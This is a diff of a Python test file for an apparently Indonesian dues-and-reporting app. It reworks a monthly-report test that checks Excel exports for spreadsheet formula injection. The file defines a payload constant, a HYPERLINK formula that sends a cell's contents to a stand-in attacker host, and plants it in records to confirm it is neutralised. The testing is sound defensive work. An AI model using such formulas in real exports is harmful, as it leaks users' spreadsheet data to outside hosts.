@@ -17,14 +17,16 @@ from openpyxl import load_workbook
 from iuran.models import SumberDana
 from iuran.tagihan.actions.susun import susun_tagihan
 from iuran.tagihan.actions.terbit import minta_daftar
-from laporan.actions import bekukan_bulan
+from laporan.actions.bulanan import Kata
+from laporan.models import Surat
 from peserta.models import Impor, Pekerjaan
 from pijar.models import Tugas
 from pijar.tugas import Pelaksana
 from tests.factories import PesertaFactory, sumber, terdaftar
 from tests.iuran.susunan import jalankan, susun
+from tests.laporan.tutup import tutup
 from tests.peserta.lembar import JUDUL, kerjakan, orang, unggah, xlsx
-from tests.verifikasi.susunan import PADA, ajukan_satu, susun_draf
+from tests.verifikasi.susunan import ajukan_satu, susun_draf
 from verifikasi import actions
 
 RUMUS = '=HYPERLINK("http://jahat.example/?"&A2,"klik")'
@@ -129,13 +131,13 @@ def test_list_of_a_bill_short_and_long(admin, monkeypatch, batas):
     tanpa_rumus(hasil(jalankan(excel)), RUMUS)
 
 
-def test_monthly_report(admin):
+def test_monthly_report(admin, admin2):
     SumberDana.objects.filter(kode="APBD").update(nama=RUMUS)
     terdaftar()
 
-    laporan = bekukan_bulan(date(2026, 3, 1), pada=PADA, oleh=admin)
+    tutup(date(2026, 11, 1), admin, admin2, kata=Kata(RUMUS, RUMUS, RUMUS))
 
-    tanpa_rumus(hasil(kerjakan(laporan.tugas_excel)))
+    tanpa_rumus(hasil(kerjakan(Surat.objects.get().tugas_excel)))
 
 
 # Names of files
